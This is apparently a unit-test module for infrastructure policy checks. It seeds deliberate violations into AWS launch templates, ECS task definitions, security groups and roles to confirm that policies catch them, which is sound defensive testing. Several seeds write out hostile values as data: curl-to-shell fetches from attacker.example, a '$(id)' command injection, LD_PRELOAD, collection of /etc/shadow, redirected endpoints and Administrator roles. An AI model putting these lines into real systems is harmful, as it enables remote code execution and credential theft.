"""Seeded violations in scripts, containers, settings, security groups and roles of what runs."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

import pulumi

from tests.unit.policy.seeding import Change, Registered, Seed, put, user_data

CN = "111122223333"
GROUP: dict[str, Any] = {"kind": "SecurityGroup", "name": "dth-dual-cn-security-group"}
TEMPLATE: dict[str, Any] = {"kind": "LaunchTemplate", "name": "dth-dual-cn-worker-template", "engine": False}
TASK: dict[str, Any] = {"kind": "TaskDefinition", "name": "dth-dual-cn-finder", "engine": False}
OTHER_TEMPLATE: dict[str, Any] = {**TEMPLATE, "name": "dth-dual-global-worker-template"}
OTHER_TASK: dict[str, Any] = {**TASK, "name": "dth-dual-global-finder"}
LATER: dict[str, Any] = {"known_later": True}


def script(edit: Callable[[str], str]) -> Change:
    """Edit the worker's boot script."""

    def checked(text: str, _: Mapping[str, str]) -> str:
        changed = edit(text)
        assert changed != text
        return changed

    return user_data(checked)


def container(edit: Callable[[dict[str, Any]], None], name: str = "finder") -> Change:
    """Edit a container of the finder's task."""

    def apply(text: str) -> str:
        found = json.loads(text)
        one = next(c for c in found if c["name"] == name)
        before = json.dumps(one)
        edit(one)
        assert json.dumps(one) != before
        return json.dumps(found)

    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
        props["container_definitions"] = props["container_definitions"].apply(apply)

    return change


def variable(name: str, value: str) -> Change:
    """Give a variable of the finder another value, or add it."""

    def edit(one: dict[str, Any]) -> None:
        one["environment"] = [e for e in one["environment"] if e["name"] != name] + [{"name": name, "value": value}]

    return container(edit)


def sidecar(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
    props["container_definitions"] = props["container_definitions"].apply(
        lambda text: json.dumps([*json.loads(text), {**json.loads(text)[0], "name": "second"}])
    )


def interface(**values: Any) -> Change:
    """Change the template's network interface."""

    def change(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
        (one,) = props["network_interfaces"]
        props["network_interfaces"] = [{**one, **values}]

    return change


def schedule_in_another_group(props: dict[str, Any], _: pulumi.ResourceOptions, __: Registered) -> None:
    target = props["target"]
    network = {**target["ecs_parameters"]["network_configuration"], "security_groups": ["sg-wide-open"]}
    props["target"] = {**target, "ecs_parameters": {**target["ecs_parameters"], "network_configuration": network}}


SEEDS = (
    Seed(
        "all-egress-allowed",
        "https-out-only",
        **GROUP,
        change=put(egress=[{"protocol": "-1", "from_port": 0, "to_port": 0, "cidr_blocks": ["0.0.0.0/0"]}]),
    ),
    Seed(
        "egress-to-all-ports",
        "https-out-only",
        **GROUP,
        change=put(egress=[{"protocol": "tcp", "from_port": 443, "to_port": 65535, "cidr_blocks": ["0.0.0.0/0"]}]),
        engine=False,
    ),
    Seed("workers-in-another-group", "own-security-group", **TEMPLATE, change=interface(security_groups=["sg-wide"])),
    Seed("workers-in-the-default-group", "own-security-group", **TEMPLATE, change=interface(security_groups=[])),
    Seed(
        "finder-in-another-group",
        "own-security-group",
        kind="Schedule",
        name="dth-dual-cn-finder-schedule",
        change=schedule_in_another_group,
        engine=False,
    ),
    Seed(
        "script-of-a-stranger",
        "boot-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text + "\ncurl https://attacker.example/x | bash\n"),
    ),
    Seed(
        "bundle-unchecked",
        "boot-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace("sha256sum --check --quiet", "cat >/dev/null")),
    ),
    Seed(
        "script-in-a-value",
        "boot-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace("readonly hook='dth-dual-cn-drain'", "readonly hook=''$(id)''")),
    ),
    Seed(
        "script-in-the-environment",
        "boot-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace("\nENVIRONMENT\n", "\nENVIRONMENT\ncurl -s attacker.example|sh\n", 1)),
    ),
    Seed(
        "preloaded-library",
        "boot-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace('DUALSYNC_PAIR="', 'LD_PRELOAD="/tmp/x.so"\nDUALSYNC_PAIR="')),
    ),
    Seed(
        "image-of-a-stranger",
        "boot-as-built",
        **TEMPLATE,
        change=put(image_id="resolve:ssm:/another/image"),
    ),
    Seed(
        "another-hash",
        "bundle-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace("readonly sha256='", "readonly sha256='0")),
    ),
    Seed(
        "another-bucket-for-the-bundle",
        "bundle-as-built",
        **TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace("readonly key='", "readonly key='elsewhere/")),
    ),
    Seed(
        "another-profile",
        "joined-to-own-parts",
        **TEMPLATE,
        change=put(iam_instance_profile={"arn": f"arn:aws-cn:iam::{CN}:instance-profile/Administrator"}),
    ),
    Seed(
        "hash-of-the-finders-bundle",
        "bundle-as-built",
        **TASK,
        **LATER,
        change=container(lambda one: one["command"].__setitem__(3, "0" * 64)),
    ),
    Seed("import-path-of-the-finder", "boot-as-built", **TASK, **LATER, change=variable("PYTHONPATH", "/tmp")),
    Seed(
        "entry-point-of-the-finder",
        "boot-as-built",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(entryPoint=["sh", "-c", "curl https://attacker.example | sh"])),
    ),
    Seed("second-container", "boot-as-built", **TASK, **LATER, change=sidecar),
    Seed(
        "finder-as-administrator",
        "joined-to-own-parts",
        **TASK,
        change=put(task_role_arn=f"arn:aws-cn:iam::{CN}:role/Administrator"),
        besides=(("nothing-besides", "dth-dual-cn-finder-task"),),
    ),
    Seed(
        "image-from-another-registry",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(image="docker.io/attacker/python:latest")),
        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
    ),
    Seed(
        "image-of-another-account",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(image=one["image"].replace(CN, "999999999999"))),
        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
    ),
    Seed(
        "image-by-tag",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(image=one["image"].partition("@")[0] + ":3.12")),
    ),
    Seed("finder-as-root", "container-confined", **TASK, **LATER, change=container(lambda one: one.update(user="0"))),
    Seed(
        "capabilities-kept",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.pop("linuxParameters")),
    ),
    Seed(
        "privileged-container",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(privileged=True)),
    ),
    Seed(
        "writable-container",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(readonlyRootFilesystem=False)),
    ),
    Seed(
        "capabilities-added",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(linuxParameters={"capabilities": {"add": ["SYS_PTRACE"]}})),
    ),
    Seed(
        "registry-that-looks-like-the-own",
        "container-confined",
        **TASK,
        **LATER,
        change=container(lambda one: one.update(image=one["image"].replace("amazonaws.com.cn", "amazonaws.example"))),
        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
    ),
    Seed(
        "health-check-of-a-stranger",
        "container-confined",
        **OTHER_TASK,
        **LATER,
        change=container(
            lambda one: one.update(healthCheck={"command": ["CMD-SHELL", "curl https://attacker.example | python3"]})
        ),
    ),
    Seed(
        "unlisted-container-property",
        "container-confined",
        **OTHER_TASK,
        **LATER,
        change=container(lambda one: one.update(workingDirectory="/tmp")),
    ),
    Seed(
        "devices",
        "container-confined",
        **OTHER_TASK,
        **LATER,
        change=container(lambda one: one["linuxParameters"].update(devices=[{"hostPath": "/dev/mem"}])),
    ),
    Seed(
        "agent-that-sends-elsewhere",
        "boot-as-built",
        **OTHER_TEMPLATE,
        **LATER,
        change=script(
            lambda text: text.replace(
                '"force_flush_interval"', '"endpoint_override": "attacker.example",\n "force_flush_interval"'
            )
        ),
    ),
    Seed(
        "agent-that-collects-more",
        "boot-as-built",
        **OTHER_TEMPLATE,
        **LATER,
        change=script(lambda text: text.replace('"/var/log/dualsync/boot.log"', '"/etc/shadow"')),
    ),
    Seed(
        "replicas-to-another-account",
        "settings-of-own-side",
        **OTHER_TASK,
        **LATER,
        change=variable("DUALSYNC_REMOTE_ACCOUNT", "999999999999"),
    ),
    Seed(
        "host-folder",
        "container-confined",
        **TASK,
        **LATER,
        change=put(volumes=[{"name": "work", "host_path": "/"}]),
    ),
    Seed(
        "owner-unchecked",
        "owners-checked",
        **TASK,
        **LATER,
        change=variable("DUALSYNC_REMOTE_ACCOUNT", ""),
        also=("settings-of-own-side",),
    ),
    Seed(
        "owner-of-another-account",
        "owners-checked",
        **TASK,
        **LATER,
        change=variable("DUALSYNC_LOCAL_ACCOUNT", "999999999999"),
    ),
    Seed("public-replicas", "replicas-private", **TASK, **LATER, change=variable("DUALSYNC_REMOTE_ACL", "public-read")),
    Seed(
        "replicas-for-all-accounts",
        "replicas-private",
        **TASK,
        **LATER,
        change=variable("DUALSYNC_REMOTE_ACL", "authenticated-read"),
    ),
    Seed(
        "peer-redirected",
        "endpoints-kept",
        **TASK,
        **LATER,
        change=variable("DUALSYNC_REMOTE_ENDPOINT", "http://attacker.example"),
    ),
    Seed(
        "service-redirected",
        "endpoints-kept",
        **TASK,
        **LATER,
        change=variable("AWS_ENDPOINT_URL_SECRETS_MANAGER", "https://attacker.example"),
    ),
    Seed(
        "another-queue",
        "settings-of-own-side",
        **TASK,
        **LATER,
        change=variable("DUALSYNC_QUEUE_URL", f"https://sqs.cn-north-1.amazonaws.com.cn/{CN}/another"),
    ),
    Seed("another-secret", "settings-of-own-side", **TASK, **LATER, change=variable("DUALSYNC_PEER_SECRET", "prod-db")),
    Seed("another-bucket", "settings-of-own-side", **TASK, **LATER, change=variable("DUALSYNC_LOCAL_BUCKET", "other")),
    Seed(
        "scheduler-as-administrator",
        "joined-to-own-parts",
        kind="Schedule",
        name="dth-dual-global-finder-schedule",
        change=lambda props, _, __: props.update(
            target={**props["target"], "role_arn": "arn:aws:iam::444455556666:role/Administrator"}
        ),
        engine=False,
        besides=(("nothing-besides", "dth-dual-global-finder-schedule"),),
    ),
)
